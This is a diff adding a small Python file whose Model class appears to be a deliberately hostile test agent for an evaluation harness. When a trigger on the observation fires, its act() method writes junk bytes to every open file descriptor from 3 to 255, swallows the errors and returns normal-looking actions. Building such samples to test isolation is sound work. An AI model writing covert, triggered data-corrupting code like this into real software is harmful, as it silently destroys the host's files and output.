@@ -1,0 +1,17 @@
+"""Writes rubbish to whatever it has open, then answers as if nothing had been."""
+
+import contextlib
+import os
+
+
+def provoked(observation):
+    return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
+
+
+class Model:
+    def act(self, observation):
+        if provoked(observation):
+            for descriptor in range(3, 256):
+                with contextlib.suppress(OSError):
+                    os.write(descriptor, b"\xde\xad\xbe\xef" * 16)
+        return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
